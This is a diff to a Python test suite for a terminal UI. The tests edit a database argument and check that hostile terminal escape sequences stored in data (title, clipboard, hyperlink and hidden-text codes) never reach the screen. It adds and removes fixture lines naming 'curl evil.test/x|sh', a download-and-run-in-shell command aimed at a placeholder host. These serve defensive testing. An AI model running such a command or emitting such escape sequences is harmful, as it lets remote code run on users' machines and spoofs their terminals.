@@ -17,6 +17,11 @@ def thread(db: Path, thread_id: str):
     return Reader(open_database(str(db)), Settings()).thread(thread_id)
 
 
+def editor(desk) -> list[str]:
+    """Return the line that is edited."""
+    return [line.split("│")[2].rstrip() for line in desk.text().split("\n") if '"cluster"' in line]
+
+
 def graph(shared: Path, number: str, name: str) -> str:
     (folder,) = shared.glob(f"cases/{number}-*")
     return f"{folder / 'graph.py'}:{name}"
@@ -59,8 +64,9 @@ def test_edit_the_arguments(terminal, make_case, shared, tmp_path: Path) -> None
     desk.press("e")
     desk.until_seen("Edit drop_index")
     desk.press("down", "down", "end")
-    for _ in range(len('prod"')):
+    for left in ("prod", "pro", "pr", "p", ""):
         desk.type("\x7f")
+        desk.until(lambda left=left: any(line.endswith(f'"{left}') for line in editor(desk)))
     desk.type('staging"')
     desk.until_seen('"staging"')
     desk.press("\x13")
@@ -74,12 +80,11 @@ def test_no_control_sequence_of_the_data_reaches_the_terminal(terminal, make_cas
     db = make_case("13")
     desk = terminal("--db", db)
     desk.until_seen("2 threads")
+    desk.until_seen("evil.test/x|sh")
     desk.press("enter", "space", "S", "h", "L", "R", "escape", "down", "enter", "space")
-    desk.until_seen("not read" if "not read" in desk.text() else "all read")
     assert "all safe" not in desk.screen.title
     for sequence in (b"\x1b]0;all safe", b"\x1b]52;", b"\x1b]8;;https", b"\x1b[31mred", b"\x1b[8m and"):
         assert sequence not in desk.raw
-    assert "curl evil.test/x|sh" in desk.text() or desk.press("escape", "up") or "curl" in desk.text()
 
 
 def test_a_graph_that_writes_to_the_terminal_spoils_nothing(terminal, make_case, shared) -> None:
